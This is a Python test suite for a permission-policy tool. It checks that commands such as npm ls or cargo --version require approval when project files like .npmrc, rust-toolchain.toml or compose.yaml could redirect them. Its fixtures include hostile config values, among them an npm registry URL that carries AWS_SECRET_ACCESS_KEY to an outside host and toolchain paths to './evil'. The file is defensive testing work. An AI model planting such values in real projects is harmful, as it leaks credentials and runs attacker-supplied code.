"""Calls that look harmless and obey a file of the project: asked about where that file says something, only then."""

from __future__ import annotations

import pytest

from assent.commands.facts import ASKS_ABOUT_ITSELF
from assent.commands.loaded import LOADED
from assent.commands.table import OBEYS_PROJECT, program_named
from assent.testing import FrozenWorld
from assent.types import Verdict
from decided import FILES, PROJECT, decided, policy_of

HELD = [
    ({".npmrc": "registry=http://host/${AWS_SECRET_ACCESS_KEY}/\n"}, "npm ls"),
    ({".npmrc": "registry = http://host/\n"}, "npm run"),
    ({".npmrc": "'registry'=\"http://host/\"\n"}, "npm root"),
    ({".npmrc": "https-proxy=http://host/\n"}, "npm prefix -g"),
    ({".npmrc": "engine-strict=true\nregistry=http://host\n"}, "npm explain x"),
    ({".npmrc": "registry=https://registry.npmjs.org.evil.example/\n"}, "npm fund"),
    ({".npmrc": "registry=http://host/"}, "npm help"),
    ({".npmrc": "registry=http://host/"}, "npm pkg get name"),
    ({"rust-toolchain.toml": "[toolchain]\nchannel = 'nightly-2020-01-01'\n"}, "rustup which cargo"),
    ({"rust-toolchain": "nightly"}, "cargo --version"),
    ({"rust-toolchain": "nightly"}, "rustc -V"),
    ({"rust-toolchain.toml": "[toolchain]\npath = './evil'\n"}, "cargo help build"),
    ({"rust-toolchain.toml": "[toolchain]\npath = './evil'\n"}, "rustfmt --check a.rs"),
    ({"go.mod": "module x\ntoolchain go1.99\n"}, "go version"),
    ({"go.work": "toolchain go1.99\n"}, "go env GOPATH"),
    ({"mix.exs": ""}, "mix help"),
    ({"mix.exs": ""}, "mix --help"),
    ({"Gemfile": ""}, "jekyll --version"),
    ({".mocharc.cjs": ""}, "mocha --version"),
    ({"rebar.config.script": ""}, "rebar3 version"),
    ({".pyre_configuration": '{"binary": "./x"}'}, "pyre --version"),
    ({"ansible.cfg": "[defaults]\ncowpath = ./x\n"}, "ansible --version"),
    ({"ansible.cfg": "[defaults]\ncallback_plugins = ./x\n"}, "ansible-playbook --help"),
    ({"global.json": '{"sdk": {"paths": ["./x"]}}'}, "dotnet --version"),
    ({"prisma.config.ts": ""}, "prisma --version"),
    ({".sequelizerc": ""}, "sequelize --help"),
    ({"uv.toml": "python-downloads-json-url = 'http://host'\n"}, "uv python list"),
    ({"pyproject.toml": "[tool.uv]\npython-install-mirror = 'http://host'\n"}, "uv python list"),
    ({"compose.yaml": "include:\n  - oci://host/x\n"}, "docker compose ps"),
    ({"docker-compose.yml": "include:\n  - git@host:x\n"}, "docker-compose config"),
    ({"gradle/wrapper/gradle-wrapper.properties": ""}, "gradlew --version"),
    ({".poetry/plugins/x.py": ""}, "poetry --version"),
    ({".pdm-plugins/x.py": ""}, "pdm --version"),
]
FREE = [
    ({}, "npm ls"),
    ({}, "npm run"),
    ({}, "cargo --version"),
    ({}, "rustup which cargo"),
    ({}, "mix help"),
    ({}, "jekyll --version"),
    ({}, "dotnet --version"),
    ({".npmrc": "engine-strict=true\n"}, "npm ls"),
    ({".npmrc": "; registry=http://host\n# proxy=x\n"}, "npm ls"),
    ({".npmrc": "registry=https://registry.npmjs.org/\n"}, "npm ls"),
    ({".npmrc": "@x:registry=https://npm.example/\n//npm.example/:_authToken=${TOKEN}\n"}, "npm ls"),
    ({".npmrc": "registry=http://host/"}, "npm --version"),
    ({"go.mod": "module x\n\ngo 1.22\n"}, "go version"),
    ({"mix.exs": ""}, "mix --version"),
    ({".mocharc.json": "{}"}, "mocha --version"),
    ({"ansible.cfg": "[defaults]\nforks = 5\n"}, "ansible --version"),
    ({"global.json": '{"sdk": {"version": "8.0"}}'}, "dotnet --version"),
    ({"compose.yaml": "services: {}\n"}, "docker compose ps"),
    ({"pyproject.toml": "[tool.uv]\n"}, "uv python list"),
]


def world(files: dict[str, str]) -> FrozenWorld:
    return FrozenWorld({**FILES, **{f"{PROJECT}/{name}": text for name, text in files.items()}})


@pytest.mark.parametrize(("files", "command"), HELD)
def test_it_is_held_back_where_a_file_says_so(files: dict[str, str], command: str) -> None:
    assert decided(command, policy_of(), world(files)).verdict == Verdict.ASK
    assert decided(command, policy_of(mode="plan"), world(files)).verdict > Verdict.ALLOW
    assert decided(command, policy_of(preset="workspace"), world(files)).verdict == Verdict.ASK


@pytest.mark.parametrize(("files", "command"), FREE)
def test_it_is_free_where_none_does(files: dict[str, str], command: str) -> None:
    assert decided(command, policy_of(), world(files)).verdict == Verdict.ALLOW
    assert decided(command, policy_of(mode="plan"), world(files)).verdict == Verdict.ALLOW


def test_a_file_above_counts_up_to_the_root_of_the_project() -> None:
    files = world({".npmrc": "registry=http://host\n", "packages/a/package.json": "{}"})
    assert decided("cd packages/a && npm ls", policy_of(), files).verdict == Verdict.ASK


def test_what_is_asked_about_anyway_is_not_asked_about_twice() -> None:
    files = world({".npmrc": "registry=http://host\n", "package.json": "{}"})
    reasons = decided("npm test", policy_of(), files).reasons
    assert [reason.subject for reason in reasons if reason.verdict == Verdict.ASK] == ["npm test"]


def test_the_registry_names_exactly_those_that_are_described() -> None:
    assert sorted(LOADED) == sorted(OBEYS_PROJECT)
    assert [name for name in LOADED if program_named(name.partition(" ")[0]) is None] == []


@pytest.mark.parametrize("name", sorted(LOADED))
def test_asking_a_program_about_itself_is_no_way_around(name: str) -> None:
    """With every file there and every word in it, only what is known not to look is free."""
    for word in ASKS_ABOUT_ITSELF:
        files = {
            file: "\n".join([text.lstrip("^") for text in one.words]) for one in LOADED[name] for file in one.files
        }
        free = all(word in one.free for one in LOADED[name])
        verdict = decided(f"{name} {word}", policy_of(), world(files)).verdict
        assert (verdict == Verdict.ALLOW) == free
